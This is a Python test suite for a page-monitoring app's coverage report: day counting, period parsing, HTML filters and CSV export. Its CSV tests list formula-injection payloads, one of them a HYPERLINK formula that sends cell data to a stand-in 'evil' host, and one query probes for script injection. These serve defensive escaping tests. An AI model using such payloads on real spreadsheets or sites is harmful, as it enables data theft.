"""Coverage: what the proof of silence counts, and how it is served."""

import csv
from collections import Counter
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from io import StringIO
from pathlib import Path
from typing import Any

import pytest

from app.csv import BOM, csv_rows
from app.desk.memory import Memory
from app.desk.pages import coverage
from app.desk.strip import Looked, strip
from app.home import Home
from app.proof import Facts, Period, counted, last_days, period_of, proofs, totals
from monitor.model import Access, Page, Reading, Role
from monitor.store import Store, looks
from monitor.store.looks import Looks
from tests.desk_world import DAY, HOUR, follow, home_of, look, served, watch
from tests.desks import NOW, open_desk
from tests.store_values import page as store_page

pytest_plugins = ["tests.postgres"]

TODAY = NOW.date()
MARCH = Period(date(2027, 2, 20), date(2027, 3, 1))  #: ten days, today the last one
PAGE = Page("org0/p0", "org0", "https://org0.example/0", Role.TERMS)


def at(*days_ago: float) -> Looks:
    return Looks(",".join(f"{NOW - days * DAY:%Y-%m-%d %H:%M:%S.%f}" for days in days_ago))


def proof(read: Looks, since: datetime | None, failed: Counter[Access] | None = None, period: Period = MARCH):  # type: ignore[no-untyped-def]
    facts = Facts(
        {PAGE.id: counted(read, since)}, {PAGE.id: failed or Counter()}, {PAGE.id: since} if since else {}
    )
    (row,) = proofs({PAGE.id: ("Organization", PAGE)}, facts, period, NOW)
    return row


LONG = NOW - 400 * DAY
CASES = {
    "every day": (at(*range(10)), LONG, (10, 10, 0), DAY),
    "every second day": (at(*range(0, 10, 2)), LONG, (10, 5, 5), 2 * DAY),
    "twice a day is one day": (
        at(0, 0.1, 1),
        LONG,
        (10, 2, 8),
        8 * DAY + 9 * HOUR,
    ),
    "not once": (Looks(), LONG, (10, 0, 10), NOW - datetime(2027, 2, 20, tzinfo=UTC)),
    "watched for three days only": (at(0, 1, 2), NOW - 2 * DAY, (3, 3, 0), DAY),
    "imported before we watched": (at(0, 1, 5, 6), NOW - DAY, (2, 2, 0), DAY),
    "watched only after it": (Looks(), NOW + DAY, (0, 0, 0), timedelta(0)),
    "never looked at": (Looks(), None, (10, 0, 10), NOW - datetime(2027, 2, 20, tzinfo=UTC)),
}


@pytest.mark.parametrize("name", CASES)
def test_a_page_is_proven_day_by_day(name: str) -> None:
    read, since, (days, days_read, without), gap = CASES[name]
    row = proof(read, since)
    assert (row.days, row.read.days, row.days_without) == (days, days_read, without)
    assert row.longest_gap == gap


def test_a_page_that_is_watched_no_more_counts_until_it_was_read_last() -> None:
    facts = Facts({"gone/p": counted(at(8, 9), None)}, {}, {})
    (row,) = proofs({}, facts, MARCH, NOW)
    assert (row.page, row.name, row.days, row.days_without) == (None, "gone", 2, 0)


def test_days_that_did_not_come_yet_do_not_count() -> None:
    tomorrow = Period(date(2027, 3, 2), date(2027, 3, 2))
    row = proof(Looks(), LONG, period=tomorrow)
    assert (row.days, row.days_without, row.longest_gap) == (0, 0, timedelta(0))


def test_a_page_that_left_the_watchlist_counts_until_our_last_look_of_any_kind(tmp_path: Path) -> None:
    home = home_of(tmp_path / "home", 1, 1)
    with home.open_store() as store, store.begin() as conn:
        look(conn, "former/p", NOW - 9 * DAY)
        for day in range(2, 9):
            look(conn, "former/p", NOW - day * DAY, Access.CONNECTION)
    with home.open_store() as store, store.read() as conn:
        rows = {one.page_id: one for one in coverage.proofs_of(conn, home.watchlist, MARCH, NOW)}
        earlier = coverage.proofs_of(conn, home.watchlist, Period(date(2027, 1, 1), TODAY), NOW)
    row = rows["former/p"]
    assert (row.days, row.read.days, row.failed, row.longest_gap) == (8, 1, 7, 7 * DAY)
    assert [one.days for one in earlier if one.page_id == "former/p"] == [8], "from our first look on"


def test_the_worst_comes_first_and_asides_do_not_count() -> None:
    def page(number: int) -> Page:
        return Page(f"org0/p{number}", "org0", "https://x.example", Role.TERMS)

    watched = {page(number).id: ("O", page(number)) for number in range(4)}
    read = {"org0/p0": at(*range(10)), "org0/p1": at(*range(8)), "org0/p2": at(*range(10)), "probe x": at(1)}
    facts = Facts(
        {id: counted(one, None) for id, one in read.items()}, {"org0/p2": Counter({Access.WALL: 2})}, {}
    )
    rows = proofs(watched, facts, MARCH, NOW)
    assert [one.page_id for one in rows] == ["org0/p3", "org0/p1", "org0/p2", "org0/p0"]
    sums = totals(rows)
    assert (sums.pages, sums.each_day, sums.read, sums.unread, sums.readings) == (4, 2, 3, 1, 28)
    assert sums.failures == {Access.WALL: 2}


PERIODS = {
    ("", ""): (last_days(30, TODAY), ""),
    ("2027-02-01", "2027-02-03"): (Period(date(2027, 2, 1), date(2027, 2, 3)), ""),
    ("2027-02-03", "2027-02-01"): (None, "The last day lies before the first one."),
    ("yesterday", ""): (None, "A day is written like 2027-03-01."),
    ("2020-01-01", "2027-01-01"): (None, "At most 366 days can be shown at once."),
    ("0001-01-01", "0001-01-02"): (None, "Only days between 1990 and today can be shown."),
    ("2027-02-01", "9999-12-31"): (None, "Only days between 1990 and today can be shown."),
}


@pytest.mark.parametrize(("first", "last"), PERIODS)
def test_a_period_is_read_strictly_and_otherwise_is_the_usual_one(first: str, last: str) -> None:
    expected, problem = PERIODS[first, last]
    usual = last_days(30, TODAY)
    assert period_of(first, last, usual) == (expected or usual, problem)


def test_a_strip_tells_read_from_failed_from_not_looked_at() -> None:
    readings = [
        Reading(1, PAGE.id, NOW - 3 * DAY, Access.OK),
        Reading(2, PAGE.id, NOW - 2 * DAY, Access.WALL),
        Reading(3, PAGE.id, NOW - 2 * DAY, Access.UNCHANGED),
        Reading(4, PAGE.id, NOW, Access.TIMEOUT),
    ]
    made = strip(readings, NOW - 3 * DAY, NOW)
    assert [cell.looked for cell in made.cells] == [Looked.READ, Looked.READ, Looked.NOT, Looked.FAILED]
    assert made.read == 2 and [cell.access for cell in made.others] == [Access.TIMEOUT, None]
    assert len(strip([], NOW - 800 * DAY, NOW).cells) == 90
    assert strip([], None, NOW).read == 0


# --------------------------------------------------------------------------- what the store says


def test_readings_and_failures_are_counted_by_page(store: Store) -> None:
    ids = ("heron/terms", "heron/pledge")
    with store.begin() as conn:
        watch(conn, [store_page(id) for id in ids])
        look(conn, ids[0], NOW - 40 * DAY, archive_url="https://archive.example/1")
        look(conn, ids[0], NOW - 3 * DAY)
        look(conn, ids[0], NOW - 2 * DAY, Access.WALL)
        look(conn, ids[0], NOW - 2 * DAY + HOUR, archive_url="https://archive.example/2")
        look(conn, ids[0], NOW - 2 * DAY + HOUR, Access.GONE, archive_url="https://archive.example/3")
        look(conn, ids[0], NOW - DAY, Access.UNCHANGED)
        look(conn, ids[0], NOW, Access.OK)
        look(conn, ids[1], NOW - DAY, Access.TIMEOUT)
    with store.read() as conn:
        read, failed = (ask(conn, NOW - 10 * DAY, NOW) for ask in (looks.read, looks.failed))
        since = looks.watched_since(conn)
    assert {id: one.at for id, one in read.items()} == {ids[0]: (NOW - 3 * DAY, NOW - DAY)}
    assert read[ids[0]].days == {"2027-02-26", "2027-02-28"} and read[ids[0]].count == 2
    assert failed == {ids[0]: {Access.WALL: 1}, ids[1]: {Access.TIMEOUT: 1}}
    assert since == {ids[0]: NOW - 3 * DAY, ids[1]: NOW - DAY}


def test_a_text_is_listed_where_it_differs_from_the_one_before(store: Store) -> None:
    id = "heron/terms"
    with store.begin() as conn:
        first = look(conn, id, NOW - 5 * DAY, text="a")
        again = look(conn, id, NOW - 4 * DAY, text="a")
        look(conn, id, NOW - 3 * DAY, Access.TIMEOUT, text="")
        other = look(conn, id, NOW - 2 * DAY, text="b")
        back = look(conn, id, NOW - DAY, text="a")
    with store.read() as conn:
        found = looks.texts(conn, id, 10)
        assert [(one.fetch_id, one.before_id) for one in found] == [
            (back, other),
            (other, again),
            (first, None),
        ]
        assert looks.texts(conn, id, 1, 1) == found[1:2]


# --------------------------------------------------------------------------- as it is served


@pytest.fixture
def home(tmp_path: Path) -> Home:
    home = home_of(tmp_path / "home", 2, 2)
    with home.open_store() as store, store.begin() as conn:
        watch(conn, home.watchlist.pages)
        for day in reversed(range(40)):
            look(conn, "org0/p0", NOW - day * DAY - HOUR)
        look(conn, "org0/p1", NOW - 5 * DAY, Access.WALL)
        look(conn, "org1/p0", NOW - 3 * DAY)
    return home


def shown(home: Home, address: str) -> str:
    with open_desk(home) as client:
        answer = client.get(address)
    assert answer.status_code == 200
    return answer.text


def test_the_sums_say_plainly_what_was_covered_and_what_was_not(home: Home) -> None:
    html = shown(home, "/coverage")
    assert "1 of 4 pages were read at least once on every day on which they were watched." in html
    assert "2 of 4 were read at least once; 2 were not read once." in html
    assert "a bot wall stood before it: 1" in html and "never looked at" in html


@pytest.mark.parametrize(
    ("query", "pages"),
    [
        ("organization=org1", ["org1/p1", "org1/p0"]),
        ("organization=Organization+0", ["org0/p1", "org0/p0"]),
        ("organization=nobody", []),
        ("state=wall", ["org0/p1"]),
        ("state=unread", ["org0/p1"]),
        ("state=%3Cscript%3E", []),
    ],
)
def test_pages_are_chosen_by_organization_and_by_what_stood_in_the_way(
    home: Home, query: str, pages: list[str]
) -> None:
    html = shown(home, f"/coverage?{query}")
    assert [line.partition('"')[0] for line in html.split('href="/pages/')[1:]] == pages
    assert "<script>" not in html.replace("<script src", "")


def test_a_wrong_day_is_told_and_the_usual_period_is_shown(home: Home) -> None:
    html = shown(home, "/coverage?from=2027-03-05&to=2027-03-01")
    assert "The last day lies before the first one." in html and 'value="2027-01-31"' in html


def test_a_file_of_another_period_than_asked_for_is_refused(home: Home) -> None:
    with open_desk(home) as client:
        answer = client.get("/coverage.csv?from=2027-03-05&to=2027-03-01")
    assert answer.status_code == 400 and "The last day lies before the first one." in answer.text


def test_where_nobody_looked_no_look_is_praised(home: Home) -> None:
    html = shown(home, "/coverage?from=2026-01-01&to=2026-01-02")
    assert "Nobody looked." in html and "Every look" not in html


def test_pages_with_a_change_that_waits_are_counted(home: Home) -> None:
    assert "is not confirmed yet" not in shown(home, "/coverage")
    with home.open_store() as store, store.begin() as conn:
        follow(conn, "org1/p0", 1, NOW - 3 * DAY)
    assert "1 page had a change in this time that is not confirmed yet." in shown(home, "/coverage")
    for query in ("organization=org0", "from=2027-02-01&to=2027-02-10"):
        assert "is not confirmed yet" not in shown(home, f"/coverage?{query}")


def test_new_readings_are_counted_at_once(home: Home) -> None:
    assert "42 readings" not in shown(home, "/coverage?from=2027-01-01&to=2027-03-01")
    with home.open_store() as store, store.begin() as conn:
        look(conn, "org1/p1", NOW - HOUR)
    assert "42 readings" in shown(home, "/coverage?from=2027-01-01&to=2027-03-01")


def test_the_csv_holds_the_same(home: Home) -> None:
    with open_desk(home) as client:
        answer = client.get("/coverage.csv?organization=org0")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        answer.headers["content-disposition"] == 'attachment; filename="coverage-2027-01-31-2027-03-01.csv"'
    )
    header, *rows = csv.reader(StringIO(answer.text.removeprefix(BOM)))
    said = [dict(zip(header, row, strict=True)) for row in rows]
    assert [one["page"] for one in said] == ["org0/p1", "org0/p0"]
    assert (said[1]["days"], said[1]["days read"], said[1]["longest gap (hours)"]) == ("30", "30", "24.0")
    assert said[0]["why"] == "wall: 1" and said[0]["first reading"] == ""


class Forgetful:
    def get(self, question: object, find: Callable[[], Any]) -> Any:
        return find()


def test_as_many_questions_however_many_pages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for memory in ("_facts", "_rows"):
        monkeypatch.setattr(coverage, memory, Forgetful())

    def asked(size: int) -> int:
        home = home_of(tmp_path / str(size), size, 5)
        with home.open_store() as store, store.begin() as conn:
            watch(conn, home.watchlist.pages)
            for page in home.watchlist.pages:
                look(conn, page.id, NOW - DAY)
        return served(home, "/coverage")[1]

    assert asked(1) == asked(6)


def test_what_is_asked_again_is_found_once_until_there_is_no_room() -> None:
    memory, found = Memory[int](2), list[int]()

    def find(question: int) -> int:
        return memory.get(question, lambda: found.append(question) or question)  # type: ignore[func-returns-value]

    assert [find(one) for one in (1, 1, 2, 1, 3, 1)] == [1, 1, 2, 1, 3, 1]
    assert found == [1, 2, 3, 1]


# --------------------------------------------------------------------------- tables for spreadsheets

CELLS = {
    '=HYPERLINK("http://evil/?"&A1)': '\'=HYPERLINK("http://evil/?"&A1)',
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    "\n+1": "'\n+1",
    " -2+3": "' -2+3",
    "＝1": "'＝1",
    '"=1': "'\"=1",
    "+49 30": "'+49 30",
    "x;=1+1": "'x;=1+1",
    'We do not; =HYPERLINK("x")': '\'We do not; =HYPERLINK("x")',
    "x\t@SUM(A1)": "'x\t@SUM(A1)",
    "x\r\n +1": "'x\r\n +1",
    "x； ＝1": "'x； ＝1",
    "We will not.": "We will not.",
    "police; - schools, - shops\n- others": "police; - schools, - shops\n- others",
    "a, = b": "a, = b",
    "a=b": "a=b",
    "": "",
}


@pytest.mark.parametrize("text", CELLS)
def test_no_cell_is_taken_for_a_formula(text: str) -> None:
    (line,) = list(csv_rows(["text"], [[text]]))[1:]
    assert next(csv.reader(StringIO(line, newline=""))) == [CELLS[text]]


def test_numbers_and_nothing_stay_what_they_are() -> None:
    rows = list(csv_rows(["a", "=b"], [[-5, None], [1.5, True]]))
    assert rows == [f"{BOM}a,'=b\r\n", "-5,\r\n", "1.5,True\r\n"]
